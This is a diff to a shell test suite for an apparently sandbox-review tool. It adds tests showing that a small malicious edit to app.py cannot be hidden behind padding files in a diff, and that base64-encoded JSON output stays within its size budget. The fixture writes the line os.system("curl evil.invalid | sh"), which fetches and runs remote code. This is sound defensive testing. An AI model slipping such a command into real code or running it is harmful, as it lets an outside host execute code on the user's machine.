@@ -230,6 +230,56 @@ sg apply --review "$REV" --unshown run.sh "$ID"; rc=$?
 check "apply --review --unshown run.sh: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied run.sh$" "$T/out" && cmp -s "$W/run.sh" "$T/s14/run.sh"'
 rm -rf "$SANDGATE_STATE/sandboxes/$ID"
 
+# --- diff: staging in path order hid the smallest change (atk16v F1) ----------
+# 17 sparse "text" files (8,000 bytes, then a hole to 1 MiB: 148 KiB of
+# disk) sorted before app.py were staged first, raw, until --disk: app.py's
+# 46-byte edit, the smallest change, was "not shown ... did not fit after
+# them" (a false reason) while 6 MiB fillers were shown. Now the texts are
+# chosen by cost first and only the chosen ones staged.
+small_sandbox sbx_0123456789abcdef0123bd0f s15
+printf 'print("hi")\n' >"$T/s15/app.py"
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+sg_fixture_sandbox "$ID" "$T/s15" $((16 << 20))
+mkdir "$W/A"
+python3 - "$W/A" <<'PY'
+import os, sys
+for i in range(17):
+    with open(os.path.join(sys.argv[1], "f%02d" % i), "wb") as f:
+        f.write(b"x" * 7999 + b"\n")
+        f.truncate(1 << 20)
+PY
+printf 'import os\nos.system("curl evil.invalid | sh")\n' >"$W/app.py"
+sg diff "$ID"; rc=$?
+REV=$(awk '/^review /{print $2}' "$T/out")
+check "diff: app.py's edit is shown behind 17 sparse 1 MiB text files staged first ($rc)" '[ $rc -eq 0 ] && grep -q "^+os.system(\"curl evil.invalid | sh\")" "$T/out" && ! grep -q "^Text file app.py" "$T/out"'
+check "diff: the sparse files not shown are each costlier than every file shown" 'python3 - "$T/out" <<-"PY"
+	import re, sys
+	t = open(sys.argv[1], "rb").read().decode("utf-8", "replace")
+	shown = re.findall(r"^\+\+\+ b/(\S+)$", t, re.M)
+	unshown = re.findall(r"^Text file (\S+) added: not shown .*\(up to (\d+) bytes\)", t, re.M)
+	assert "app.py" in shown and unshown, (shown, len(unshown))
+	assert all(p.startswith("A/f") for p, _ in unshown)
+	assert min(int(c) for _, c in unshown) > 16777216 // 18, unshown[:2]
+	PY'
+sg apply --review "$REV" --path app.py "$ID"; rc=$?
+check "apply --review --path app.py: applied without --unshown ($rc)" '[ $rc -eq 0 ] && grep -q "^applied app.py$" "$T/out" && grep -q "curl evil.invalid" "$T/s15/app.py"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
+# --- diff --json: text that is not valid UTF-8 goes out in base64 (atk16v F3) --
+# 16 names of a 1 MiB file of 'a' lines whose first byte is 0xff in a 16
+# MiB sandbox: diff --json carries such a text in base64 (4 bytes per 3)
+# but the budget charged a printable byte 1: 21 MB of JSON. Now such a
+# text is charged as base64.
+small_sandbox sbx_0123456789abcdef0123bd10 s16
+mkdir "$W/B"
+python3 -c 'import sys; open(sys.argv[1], "wb").write(b"\xff" + (b"a" * 1023 + b"\n") * 1023 + b"a" * 1022 + b"\n")' "$W/B/f00"
+for i in $(seq -w 1 15); do ln "$W/B/f00" "$W/B/f$i"; done
+sg diff --json "$ID"; rc=$?
+check "diff --json of 16 names of a 1 MiB text with a 0xff byte: at most --disk written ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "diff_base64" "$T/out"'
+sg export --output "$T/e16.zip" "$ID"; rc=$?
+check "export of the same: diff.json at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; assert zipfile.ZipFile(sys.argv[1]).getinfo(\"diff.json\").file_size <= 17 << 20" "$T/e16.zip"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
 # --- saved reviews: many names (atk16u F4) -------------------------------------
 # 12,000 hard-link names of 120 bytes: each diff saves a review of ~3.3 MB
 # (every path in base64); 16 were kept whatever --disk, so 12 distinct
